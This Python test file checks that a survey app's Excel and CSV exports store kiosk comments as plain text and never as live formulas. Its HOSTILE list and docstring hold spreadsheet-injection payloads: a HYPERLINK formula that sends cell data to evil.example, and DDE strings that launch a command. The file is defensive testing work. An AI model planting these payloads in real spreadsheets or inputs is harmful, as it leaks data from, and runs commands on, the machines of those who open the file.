"""Exports never carry live formulas (issue 16, finding 6).

On main a kiosk comment beginning with ``=`` went into the survey-results workbook as a live
formula (``=HYPERLINK("http://…?leak="&A1,…)``, ``=cmd|' /C calc'!A0``).
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from desk_app.services import profile as profile_service
from desk_app.services import safe_export, survey_export, surveys
from desk_app.services import survey_results as results

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"اضغط هنا")', "=cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
ANSWERS = {"reception": 4, "clarity": 4, "waiting": 2, "courtesy": 5, "overall": 4,
           "service_obtained": True}


def test_survey_workbook_holds_comments_as_text_never_formulas(db, admin, tmp_path):
    c = surveys.create_campaign(db, admin, kind="periodic", name_ar="حملة",
                                starts_on=date(2026, 1, 1), service_code="service_request")
    for text in HOSTILE:
        surveys.submit(db, admin, c.id, {**ANSWERS, "suggestions": text}, mode="kiosk",
                       channel_code="interview", branch_code="HQ", answered_on=date(2026, 11, 1))
    rep = results.report(db, admin, results.ResultsQuery(), profile_service.current(db), "ar")
    path = tmp_path / "results.xlsx"
    survey_export.write_xlsx(db, admin, rep, path, "ar")
    book = load_workbook(path)
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    comments = [row[1] for row in book["الملاحظات"].iter_rows(min_row=2, values_only=True)]
    assert len(comments) == len(HOSTILE) and all(isinstance(v, str) for v in comments)
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"اضغط هنا")' in comments  # word for word


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_are_neutralised(text):
    out = io.StringIO()
    csv.writer(out).writerow([safe_export.csv_cell(text), safe_export.csv_cell(-5), "ok"])
    cell = next(csv.reader(io.StringIO(out.getvalue())))[0]
    assert cell.startswith("'") and cell[1:] == text
    assert safe_export.csv_cell("عادي") == "عادي" and safe_export.csv_cell(-5) == -5


def test_workbook_rows_keep_the_exact_text_as_a_string(tmp_path):
    wb = Workbook()
    safe_export.append_row(wb.active, ["=1+1", 3, "نص"])
    wb.save(tmp_path / "x.xlsx")
    ws = load_workbook(tmp_path / "x.xlsx").active
    assert [c.data_type for c in ws[1]] == ["s", "n", "s"]
    assert ws["A1"].value == "=1+1"


def test_every_workbook_or_csv_writer_uses_the_helper():
    from pathlib import Path

    import desk_app

    root = Path(desk_app.__file__).parent
    writers = [p for p in root.rglob("*.py") if p.name not in ("safe_export.py", "spreadsheet.py")
               and any(k in p.read_text(encoding="utf-8")
                       for k in ("Workbook(", "csv.writer(", "DictWriter("))]
    assert writers  # the survey export at least
    helpers = ("services.safe_export import", "services.spreadsheet import")  # one rule, two doors
    assert [p.name for p in writers
            if not any(h in p.read_text(encoding="utf-8") for h in helpers)] == []
